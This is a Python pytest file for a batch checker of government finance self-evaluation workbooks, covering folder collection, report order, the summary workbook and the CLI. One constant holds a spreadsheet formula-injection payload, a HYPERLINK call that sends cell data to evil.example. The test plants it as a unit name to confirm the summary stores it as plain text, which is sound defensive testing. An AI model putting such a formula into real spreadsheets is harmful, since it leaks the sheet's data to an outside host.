"""The finance bureau's batch: a folder of good and bad submissions, checked in order, summarised."""
from __future__ import annotations

import io
import os
import shutil
import zipfile

import pytest
from openpyxl import load_workbook

from perfeval_xl.batch import collect, run
from perfeval_xl.findings import Finding, Metrics, Report, Severity
from perfeval_xl.pipeline import CheckOptions
from perfeval_xl.writers.summary import write_summary

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture(scope="module")
def inbox(tmp_path_factory, seed_example, seed_original):
    """收件箱/ with sub-folders, good and bad files, a lock file and a previous run's outputs."""
    from tests.conftest import set_cells

    d = tmp_path_factory.mktemp("batch") / "收件箱"
    (d / "市直" / "办公室").mkdir(parents=True)
    (d / "区县").mkdir()
    shutil.copyfile(seed_example, d / "市直" / "办公室" / "益阳市人民政府办公室_2024.xlsx")
    shutil.copyfile(seed_original, d / "市直" / "原表_政府办.xlsx")
    set_cells(seed_example, {"unit_name": "'" + EVIL}, dest=str(d / "区县" / "恶意单位名.xlsx"))
    set_cells(seed_example, {"funds_actual": 4000}, dest=str(d / "区县" / "超预算.xlsx"))
    (d / "区县" / "其实是CSV.xlsx").write_text("项目,金额\n公务接待费,1.91\n", encoding="utf-8")
    (d / "区县" / "截断.xlsx").write_bytes(open(seed_example, "rb").read()[:3000])
    (d / "区县" / "~$超预算.xlsx").write_bytes(b"\x04user" + b" " * 160)
    shutil.copyfile(seed_example, d / "区县" / "超预算_已校验.xlsx")  # a previous run's annotated copy
    shutil.copyfile(seed_example, d / "区县" / "超预算_备份_20250423-101500.xlsx")
    (d / "区县" / "说明.txt").write_text("不是工作簿", encoding="utf-8")
    write_summary([Report("x.xlsx", error="文件已加密")], str(d / "上次的汇总.xlsx"))  # a previous run's summary
    return d


def test_collect_walks_folders_and_skips_locks_and_our_outputs(inbox):
    files = collect([str(inbox)])
    names = [os.path.relpath(f, inbox) for f in files]
    assert names == [
        os.path.join("区县", "其实是CSV.xlsx"),
        os.path.join("区县", "恶意单位名.xlsx"),
        os.path.join("区县", "截断.xlsx"),
        os.path.join("区县", "超预算.xlsx"),
        os.path.join("市直", "办公室", "益阳市人民政府办公室_2024.xlsx"),
        os.path.join("市直", "原表_政府办.xlsx"),
    ]
    assert collect([str(inbox)], exclude=[str(inbox / "区县")]) == files[4:]
    one = str(inbox / "区县" / "超预算.xlsx")
    assert collect([one, str(inbox / "市直"), one]) == [one] + files[4:]  # files first, no duplicates


def test_annotate_dest_mirrors_sub_folders(inbox, tmp_path):
    from perfeval_xl.batch import annotate_dest

    src = str(inbox / "市直" / "办公室" / "益阳市人民政府办公室_2024.xlsx")
    out = str(tmp_path / "OUT")
    assert annotate_dest(src, [str(inbox)], out) == os.path.join(out, "市直", "办公室", "益阳市人民政府办公室_2024_已校验.xlsx")
    assert annotate_dest(src, [str(inbox / "市直")], out) == os.path.join(out, "办公室", "益阳市人民政府办公室_2024_已校验.xlsx")
    assert annotate_dest(src, [src], out) == os.path.join(out, "益阳市人民政府办公室_2024_已校验.xlsx")  # a file argument
    assert annotate_dest(str(inbox / "a.xls"), [str(inbox)], out) == os.path.join(out, "a_已校验.xlsx")


def test_run_reports_every_file_in_input_order(inbox):
    files = collect([str(inbox)])
    reports = run(files, CheckOptions(), jobs=1)
    assert [r.path for r in reports] == files
    by_name = {os.path.basename(r.path): r for r in reports}
    assert "CSV" in by_name["其实是CSV.xlsx"].error
    assert "损坏" in by_name["截断.xlsx"].error
    seed = by_name["益阳市人民政府办公室_2024.xlsx"]
    assert seed.error is None and seed.metrics.department == "益阳市人民政府办公室"
    assert abs(float(seed.metrics.execution_rate) - 0.9596) < 0.0001
    assert by_name["原表_政府办.xlsx"].error is None  # the official layout without names, by labels
    over = by_name["超预算.xlsx"]
    assert over.errors > seed.errors  # 执行数 > 预算数 is an error
    assert by_name["恶意单位名.xlsx"].metrics.department == EVIL


def test_the_pool_gives_the_same_reports_in_the_same_order(inbox, tmp_path):
    base = collect([str(inbox)])
    many = []
    for i in range(30):  # enough files to take the process-pool path
        src = base[i % len(base)]
        dest = tmp_path / f"{i:02d}_{os.path.basename(src)}"
        shutil.copyfile(src, dest)
        many.append(str(dest))
    serial = run(many, CheckOptions(), jobs=1)
    pooled = run(many, CheckOptions(), jobs=2)
    assert [r.to_dict() for r in pooled] == [r.to_dict() for r in serial]


class _Tty(io.StringIO):
    def isatty(self):
        return True


def test_progress_bar_only_on_a_terminal(inbox):
    files = collect([str(inbox)])[:3]
    tty, pipe = _Tty(), io.StringIO()
    run(files, CheckOptions(), jobs=1, progress=tty)
    run(files, CheckOptions(), jobs=1, progress=pipe)
    assert "3/3" in tty.getvalue() and tty.getvalue().startswith("\r校验 [")
    assert pipe.getvalue() == ""
    seen = []
    run(files, CheckOptions(), jobs=1, progress=lambda done, total: seen.append((done, total)))
    assert seen == [(1, 3), (2, 3), (3, 3)]


def test_summary_workbook(inbox, tmp_path):
    files = collect([str(inbox)])
    reports = run(files, CheckOptions(), jobs=1)
    out = write_summary(reports, str(tmp_path / "汇总" / "2024年自评复核汇总.xlsx"))
    wb = load_workbook(out)
    assert wb.sheetnames == ["汇总", "全部问题", "规则统计", "图表"]
    ws = wb["汇总"]
    header = [c.value for c in ws[1]]
    assert header[:11] == ["单位", "年度", "全年预算数", "全年执行数", "执行率", "自评总分", "复核总分", "等级",
                           "错误数", "警告数", "文件"]
    rows = {r[10]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    assert len(rows) == len(files)
    seed_row = rows[files[4]]
    assert seed_row[0] == "益阳市人民政府办公室" and seed_row[1] == 2024
    assert abs(seed_row[2] - 3676.31) < 0.01 and abs(seed_row[3] - 3527.66) < 0.01
    assert abs(seed_row[4] - 0.9596) < 0.0001
    assert "CSV" in rows[files[0]][11] and rows[files[0]][11].startswith("无法校验")
    # the malicious unit name is text, not a formula
    evil = [c for c in ws["A"] if c.value == EVIL]
    assert len(evil) == 1 and evil[0].data_type == "s"
    with zipfile.ZipFile(out) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet_xml
        charts = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 3
        assert all(b"<barChart>" in z.read(c) for c in charts)
    findings = list(wb["全部问题"].iter_rows(min_row=2, values_only=True))
    assert len(findings) == sum(len(r.findings) for r in reports)
    freq = list(wb["规则统计"].iter_rows(min_row=2, values_only=True))
    assert sum(r[3] for r in freq) == len(findings)
    assert [r[3] for r in freq] == sorted((r[3] for r in freq), reverse=True)


def test_summary_of_handmade_reports_counts_rules():
    reports = [
        Report("a.xlsx", [Finding("PE101", Severity.ERROR, "s", "A1", "m"), Finding("PE202", Severity.WARNING, "s", "B1", "m")],
               Metrics(department="甲", year=2024)),
        Report("b.xlsx", [Finding("PE101", Severity.ERROR, "s", "A1", "m")], Metrics(department="乙", year=2024)),
        Report("c.xlsx", error="文件已加密"),
    ]
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        wb = load_workbook(write_summary(reports, os.path.join(d, "s.xlsx")))
        freq = list(wb["规则统计"].iter_rows(min_row=2, values_only=True))
        assert [(r[0], r[3], r[4]) for r in freq] == [("PE101", 2, 2), ("PE202", 1, 1)]
        rows = list(wb["汇总"].iter_rows(min_row=2, values_only=True))
        assert rows[2][0] == "c" and rows[2][11] == "无法校验：文件已加密"


def test_cli_check_folder_end_to_end(inbox, tmp_path):
    cli = pytest.importorskip("perfeval_xl.cli")
    work = tmp_path / "收件箱"
    shutil.copytree(inbox, work)
    before = {p: open(os.path.join(r, p), "rb").read() for r, _, fs in os.walk(work) for p in fs}
    summary, outdir = tmp_path / "S.xlsx", tmp_path / "OUT"
    code = cli.main(["check", str(work), "--summary", str(summary), "--annotate", str(outdir)])
    assert code in (1, 2)  # findings in the folder
    assert summary.is_file()
    annotated = sorted(os.path.relpath(os.path.join(r, f), outdir) for r, _, fs in os.walk(outdir) for f in fs)
    assert os.path.join("市直", "办公室", "益阳市人民政府办公室_2024_已校验.xlsx") in annotated  # sub-folders mirrored
    assert not any("CSV" in a or "截断" in a for a in annotated)  # unreadable files are not annotated
    wb = load_workbook(outdir / "市直" / "办公室" / "益阳市人民政府办公室_2024_已校验.xlsx")
    assert wb.sheetnames[0] == "校验结果"
    after = {p: open(os.path.join(r, p), "rb").read() for r, _, fs in os.walk(work) for p in fs}
    assert after == before  # inputs untouched
